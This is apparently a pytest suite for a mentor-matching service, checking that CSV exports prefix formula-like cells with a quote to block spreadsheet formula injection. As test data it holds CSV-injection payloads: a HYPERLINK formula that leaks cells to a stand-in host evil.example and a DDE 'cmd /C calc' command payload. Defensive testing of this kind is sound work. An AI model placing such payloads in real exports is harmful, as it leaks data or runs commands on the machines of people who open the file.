"""CSV exports never hand a spreadsheet a formula (OWASP CSV Injection): people's names, bio sentences,
plans and needs that start like a formula are written with a `'` in front and quoted; scores stay numbers.

End to end on the real model and store: the export of the service (what `mentor-match pair` and
`programme export` write), of `/v1/programmes/<id>/pairs.csv` and of the programme pages.
"""

from __future__ import annotations

import base64
import csv
import io
import re

import pytest

from matcher.api import create_app
from matcher.csvsafe import csv_text, neutralise
from tests.api_people import bearer, make_keys
from tests.conftest import profile

LINK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open profile")'
BIO = "=1+1 I film TikTok videos and teach leaders to post on Instagram Reels with confidence."
MENTORS = [
    profile("ana", 2, BIO, name=LINK, styles=["reverse"], capacity=1),
    profile(
        "ben",
        3,
        "I run our LinkedIn page and coach executives on writing posts people read.",
        name="@SUM(1+1)",
        styles=["reverse"],
        capacity=1,
    ),
]
LEADERS = [
    profile("lea", 9, "I lead the operations division.", name="+cmd|' /C calc'!A0", styles=[]),
    profile("max", 8, "I run finance.", name="-2+3", styles=[]),
]
COHORT = [
    {"id": "lea", "need": "TikTok and Instagram Reels for a senior leader"},
    {"id": "max", "need": "writing LinkedIn posts that people read"},
]
# A cell a spreadsheet could evaluate: a formula character first, or after whitespace or quote marks.
FORMULA = re.compile(r"[=+\-@\t\r]|[\s\"']*[=+\-@]")


@pytest.mark.parametrize(
    "cell,safe",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1+2", "'  =1+2"),
        ('"=1+2', "'\"=1+2"),
        ("\n@x", "'\n@x"),
        ("'=1", "''=1"),
        ("Ana Lopez", "Ana Lopez"),
        ("a=b", "a=b"),
        ("", ""),
        ("1-2", "1-2"),
    ],
)
def test_a_cell_that_could_be_a_formula_gets_a_quote_in_front(cell, safe):
    assert neutralise(cell) == safe


def test_owasp_examples_are_one_quoted_text_cell_and_numbers_stay_numbers():
    # OWASP's examples: a separator or a quote inside a cell must not start a new cell with a formula.
    text = csv_text(["name", "score"], [['=1+2";=1+2', 0.5], ["=1+2'\" ;,=1+2", 0.25], ["Bob;=1+1", 0.0]])
    assert text.splitlines() == ['"name","score"', '"\'=1+2"";=1+2",0.5', '"\'=1+2\'"" ;,=1+2",0.25', '"Bob;=1+1",0.0']


@pytest.fixture
def service(make_service):
    svc = make_service().open()
    assert not svc.import_items(list(enumerate(MENTORS + LEADERS, start=1))).rejected
    return svc


@pytest.fixture
def pid(service):
    programmes = service.programmes
    view = programmes.create(
        {"name": '=HYPERLINK("http://evil.example")', "style": "reverse", "cohort": COHORT, "sessions": 2}
    )
    assert {k: p.mentor_id for k, p in programmes.run(view.record.id).pairs.items()} == {"lea": "ana", "max": "ben"}
    return view.record.id


def assert_safe(text: str) -> list[dict[str, str]]:
    """Every cell of `text` is safe in a spreadsheet; returns the rows."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not FORMULA.match(cell) or cell.startswith("'"), cell
    header, *body = rows
    return [dict(zip(header, row)) for row in body]


def test_the_export_neutralises_names_and_bio_sentences(service, pid):
    rows = {r["mentee_id"]: r for r in assert_safe(service.programmes.export_csv(pid))}
    assert rows["lea"]["mentor_name"] == "'" + LINK and rows["lea"]["mentee_name"] == "'+cmd|' /C calc'!A0"
    assert rows["lea"]["evidence"] == "'" + BIO
    assert rows["max"]["mentor_name"] == "'@SUM(1+1)" and rows["max"]["mentee_name"] == "'-2+3"
    assert 0 < float(rows["lea"]["score"]) <= 1


def test_the_http_and_page_exports_are_the_same_safe_csv(service, pid):
    token = make_keys(service)["admin"]
    client = create_app(service=service).test_client()
    api = client.get(f"/v1/programmes/{pid}/pairs.csv", headers=bearer(token))
    basic = {"Authorization": "Basic " + base64.b64encode(f"hr:{token}".encode()).decode()}
    page = client.get(f"/programmes/{pid}/pairs.csv", headers=basic)
    assert api.status_code == page.status_code == 200
    assert api.get_data(as_text=True) == page.get_data(as_text=True) == service.programmes.export_csv(pid)
    assert len(assert_safe(api.get_data(as_text=True))) == len(COHORT)
    score = re.search(r",(0\.\d+|1\.0),", api.get_data(as_text=True).splitlines()[1])
    assert score, "the score is written as a number, unquoted"
